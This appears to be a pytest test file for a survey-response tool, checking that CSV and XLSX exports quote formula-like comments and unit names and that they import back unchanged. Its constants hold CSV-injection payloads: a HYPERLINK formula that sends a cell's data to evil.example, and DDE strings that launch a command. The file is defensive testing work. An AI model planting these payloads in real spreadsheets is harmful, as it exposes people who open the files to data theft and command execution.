"""A comment or a name that looks like a spreadsheet formula leaves every export as plain text,
and our own export still imports back to the same value (OWASP's CSV-injection rule)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from hailong.models import Answer, Unit
from hailong.spreadsheet import FORMULA_STARTS, QUOTE, as_text, from_text
from tests.admin.conftest import Hailong
from tests.responses.forms import PERIOD, form, read_csv, setup_units_and_period, write_forms
from tests.responses.test_round_trip import empty_the_responses

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm vào đây")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
ATTACKS = (
    HYPERLINK,
    DDE,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted by someone",
    "''",
)
PLAIN = ("Cán bộ nhiệt tình.", "-5", "+84912345678", "'bình thường'")
COMMENTS = (*ATTACKS, *PLAIN)


def comment_forms() -> list[dict[str, str]]:
    """Paper forms keyed in with these comments, in a file written the way we write ours: a
    spreadsheet's `'` marks text, so "'=x" in a file is the comment "=x"."""
    return [form(n, comment=as_text(comment)) for n, comment in enumerate(COMMENTS)]


def stored_comments(sessions: sessionmaker[Session]) -> list[str]:
    with sessions() as session:
        query = select(Answer.value).where(Answer.question_key == "comment")
        return sorted(value or "" for value in session.scalars(query))


def evaluated(cell: str) -> bool:
    """Would a spreadsheet take this CSV cell for a formula?"""
    return cell[:1] in FORMULA_STARTS and cell.lstrip("+-").replace(".", "").isdigit() is False


class TestSpreadsheetText:
    @given(st.text())
    def test_every_text_reads_back_as_it_was(self, text: str) -> None:
        assert from_text(as_text(text)) == text

    @given(st.text())
    def test_nothing_that_would_run_leaves(self, text: str) -> None:
        assert not evaluated(as_text(text))

    def test_numbers_stay_numbers(self) -> None:
        assert [as_text(n) for n in ("-5", "-12.75", "+84912345678", "4")] == [
            "-5",
            "-12.75",
            "+84912345678",
            "4",
        ]


@pytest.fixture
def stored(
    hailong: Hailong, session: Session, sessions: sessionmaker[Session], tmp_path: Path
) -> list[str]:
    """The comments of COMMENTS, imported from paper forms; as the database holds them."""
    setup_units_and_period(session)
    source = write_forms(tmp_path / "in.csv", comment_forms())
    assert hailong("import", "responses", str(source)).exit_code == 0
    comments = stored_comments(sessions)
    assert set(comments) == set(COMMENTS)
    return comments


class TestResponsesDownload:
    def test_csv_cells_are_quoted_and_import_back_the_same(
        self, hailong: Hailong, stored: list[str], sessions: sessionmaker[Session], tmp_path: Path
    ) -> None:
        first = tmp_path / "first.csv"
        assert hailong("download", "responses", "--period", PERIOD, "-o", str(first)).exit_code == 0
        cells = [row["comment"] for row in read_csv(first)]
        assert all(not evaluated(cell) for cell in cells)
        assert QUOTE + HYPERLINK in cells
        assert QUOTE + DDE in cells
        # Numbers and ordinary text are left alone.
        assert {"-5", "+84912345678", "Cán bộ nhiệt tình.", "'bình thường'"} <= set(cells)

        empty_the_responses(sessions)
        assert hailong("import", "responses", str(first)).exit_code == 0
        assert stored_comments(sessions) == stored
        second = tmp_path / "second.csv"
        download = ("download", "responses", "--period", PERIOD)
        assert hailong(*download, "-o", str(second)).exit_code == 0
        assert second.read_bytes() == first.read_bytes()

    def test_xlsx_cells_are_strings_and_import_back_the_same(
        self, hailong: Hailong, stored: list[str], sessions: sessionmaker[Session], tmp_path: Path
    ) -> None:
        out = tmp_path / "out.xlsx"
        assert hailong("download", "responses", "--period", PERIOD, "-o", str(out)).exit_code == 0
        # Not data_only: a formula would show here as a cell of type "f".
        sheet = load_workbook(out).worksheets[0]
        header = [cell.value for cell in sheet[1]]
        column = header.index("comment") + 1
        cells = [row[column - 1] for row in sheet.iter_rows(min_row=2)]
        assert {cell.data_type for cell in cells} == {"s"}
        assert QUOTE + HYPERLINK in {cell.value for cell in cells}
        criteria = {row[header.index("A1")].data_type for row in sheet.iter_rows(min_row=2)}
        assert criteria == {"n"}  # answer codes stay numbers

        empty_the_responses(sessions)
        assert hailong("import", "responses", str(out)).exit_code == 0
        assert stored_comments(sessions) == stored


class TestIndexDownload:
    def test_a_unit_named_like_a_formula_is_text_in_csv_and_xlsx(
        self, hailong: Hailong, session: Session, tmp_path: Path
    ) -> None:
        setup_units_and_period(session)
        session.execute(Unit.__table__.update().where(Unit.code == "11413").values(name=HYPERLINK))
        session.commit()
        assert hailong("import", "responses", str(write_forms(tmp_path / "in.csv", [form(1)])))

        out = tmp_path / "index.csv"
        args = ("download", "index", "--period", PERIOD, "--unit", "31")
        assert hailong(*args, "-o", str(out)).exit_code == 0
        rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
        assert [cell for row in rows for cell in row if HYPERLINK in cell] == [QUOTE + HYPERLINK]
        assert not any(evaluated(cell) for row in rows for cell in row)

        book = tmp_path / "index.xlsx"
        assert hailong(*args, "-o", str(book)).exit_code == 0
        cells = [
            cell
            for sheet in load_workbook(book).worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str) and HYPERLINK in cell.value
        ]
        assert [(c.value, c.data_type) for c in cells] == [(QUOTE + HYPERLINK, "s")]

    def test_the_index_command_csv_quotes_names_too(
        self, hailong: Hailong, session: Session, tmp_path: Path
    ) -> None:
        setup_units_and_period(session)
        session.execute(Unit.__table__.update().where(Unit.code == "11413").values(name=DDE))
        session.commit()
        assert hailong("import", "responses", str(write_forms(tmp_path / "in.csv", [form(1)])))
        result = hailong("index", "--period", PERIOD, "--unit", "31", "--format", "csv")
        assert result.exit_code == 0, result.stderr
        cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
        assert QUOTE + DDE in cells
        assert not any(evaluated(cell) for cell in cells)
